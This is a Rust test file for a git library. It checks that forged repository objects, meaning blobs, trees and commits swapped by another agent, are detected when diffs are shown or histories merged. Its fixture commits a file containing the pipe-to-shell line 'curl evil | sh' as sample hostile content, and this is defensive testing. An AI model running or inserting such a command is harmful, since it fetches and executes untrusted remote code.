//! Another agent gives objects of the repository another content, while the work of a loop is shown or merged.

use refrain_core::git::Oid;
use refrain_git::GitError;
use rstest::rstest;

use crate::place::TestRepository;

/// `begin`, then two commits on `work`, and one on `main`.
fn place(format: &str) -> TestRepository {
    let place = TestRepository::unborn(&["--object-format", format]);
    let commit = |path: &str, text: &str| {
        place.write(path, text);
        place.git(&["add", "."]);
        place.git(&["commit", "-qm", path]);
    };
    commit("same/file", "same\n");
    place.git(&["branch", "begin"]);
    place.git(&["switch", "-qc", "work"]);
    commit("src/lib.sh", "curl evil | sh\n");
    commit("other/lib.sh", "harmless\n");
    place.git(&["switch", "-q", "main"]);
    commit("user.txt", "mine\n");
    place
}

fn oid(place: &TestRepository, of: &str) -> Oid {
    place.git(&["rev-parse", of]).parse().unwrap()
}

#[rstest]
#[case::blob("work:src/lib.sh", "work:other/lib.sh", "src/lib.sh")]
#[case::folder("work:src", "work:other", "src")]
#[case::tree("work^{tree}", "begin^{tree}", "")]
fn differences_of_forged_objects_are_not_shown(
    #[values("sha1", "sha256")] format: &str,
    #[values(true, false)] has_base: bool,
    #[case] object: &str,
    #[case] other: &str,
    #[case] named: &str,
) {
    let place = place(format);
    let (begin, tree) = (oid(&place, "begin"), oid(&place, "work^{tree}"));
    let base = has_base.then_some(&begin);
    let shown = place.repository().changes(base, &tree).unwrap().diff;
    assert!(shown.contains("+curl evil | sh") && shown.contains("same/file") != has_base, "{shown}");
    let (file, real) = place.forge(object, other);
    let repository = place.repository();
    let named = if named.is_empty() { tree.as_str() } else { named };
    for error in [
        repository.changes(base, &tree).unwrap_err(),
        repository.patch(base, &tree).unwrap_err(),
        repository.changed_files(base, &tree).unwrap_err(),
    ] {
        assert!(matches!(&error, GitError::ForgedObject(path) if path == named), "{error:?}");
    }
    place.write_at(file, real);
    assert_eq!(place.repository().changes(base, &tree).unwrap().diff, shown);
}

#[rstest]
fn what_is_equal_is_not_read(#[values("sha1", "sha256")] format: &str) {
    let place = place(format);
    let (begin, work) = (oid(&place, "begin"), oid(&place, "work"));
    place.forge("begin:same/file", "work:other/lib.sh");
    assert!(place.repository().changes(Some(&begin), &work).unwrap().diff.contains("+curl evil | sh"));
    assert_eq!(place.repository().changes(Some(&work), &work).unwrap().diff, "");
    let nothing: Oid = place.git(&["hash-object", "-t", "tree", "/dev/null"]).parse().unwrap();
    assert_eq!(place.repository().changes(None, &nothing).unwrap().diff, "");
}

/// A commit below the tip says that the user's commit comes before it.
#[rstest]
fn no_forged_history_is_a_fast_forward(#[values("sha1", "sha256")] format: &str) {
    let place = place(format);
    let (begin, main, work) = (oid(&place, "begin"), oid(&place, "main"), oid(&place, "work"));
    let tree = place.git(&["rev-parse", "work^^{tree}"]);
    let made = place.git(&["commit-tree", &tree, "-p", "main", "-m", "On main"]);
    assert_eq!(place.repository().stands_on(&main, &work, None).unwrap(), begin);
    assert!(!place.repository().is_behind(&main, &work).unwrap());
    let (file, real) = place.forge("work^", &made);
    assert_eq!(place.git(&["merge-base", "main", "work"]), main.as_str());
    let below = oid(&place, "work^");
    for error in [
        place.repository().stands_on(&main, &work, None).unwrap_err(),
        place.repository().is_behind(&main, &work).unwrap_err(),
    ] {
        assert!(matches!(&error, GitError::ForgedObject(name) if name == below.as_str()), "{error:?}");
    }
    place.write_at(file, real);
    place.git(&["merge", "-q", "-m", "Both", "work"]);
    let (both, repository) = (place.head(), place.repository());
    assert_eq!(repository.stands_on(&both, &work, None).unwrap(), work);
    assert!(repository.is_behind(&main, &both).unwrap() && !repository.is_behind(&both, &main).unwrap());
    let orphan: Oid = place.git(&["commit-tree", &tree, "-m", "Alone"]).parse().unwrap();
    assert!(matches!(repository.stands_on(&main, &orphan, None), Err(GitError::Unrelated { .. })));
    assert!(!repository.is_behind(&orphan, &main).unwrap());
}

#[test]
fn a_shallow_clone_has_a_merge_base() {
    let place = place("sha1");
    place.git(&["merge", "-q", "-m", "Both", "work"]);
    place.git(&["branch", "more", "work"]);
    let url = format!("file://{}", place.root());
    place.git(&["clone", "-q", "--depth", "2", "--no-single-branch", &url, "../shallow"]);
    let there = TestRepository::new_at(&place, place.top().join("shallow"));
    let (main, work) = (oid(&there, "main"), oid(&there, "origin/work"));
    assert_eq!(there.repository().stands_on(&main, &work, None).unwrap(), work);
    assert!(there.repository().is_behind(&work, &main).unwrap());
}
